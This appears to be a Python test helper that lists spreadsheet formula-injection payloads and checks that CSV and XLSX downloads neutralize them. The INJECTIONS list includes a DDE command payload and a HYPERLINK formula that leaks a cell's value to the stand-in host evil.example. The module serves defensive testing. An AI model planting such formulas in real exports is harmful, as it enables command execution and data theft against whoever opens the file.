"""What an attacker types into a field that ends up in a download (issue 16's list), and how
a test reads a CSV or XLSX download to prove each comes out neutralized."""

import csv
import io

from openpyxl import load_workbook

__all__ = ["INJECTIONS", "assert_neutralized_csv", "assert_neutralized_xlsx", "body"]

INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "\r=1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
]


def body(response):
    """The bytes of a response, streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_neutralized_csv(response, typed):
    """Every cell of the CSV download that holds `typed` holds it behind an apostrophe, and
    no cell holds it bare."""
    text = body(response).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + typed in cells, f"{typed!r} is not in the file, neutralized"
    assert typed not in cells, f"{typed!r} is in the file as typed"


def assert_neutralized_xlsx(response, typed):
    """Every cell of the XLSX download that holds `typed` is a text cell with Excel's quote
    prefix (the value kept exactly), never a formula."""
    sheet = load_workbook(io.BytesIO(body(response))).active
    found = [cell for row in sheet.iter_rows() for cell in row if cell.value == typed]
    assert found, f"{typed!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
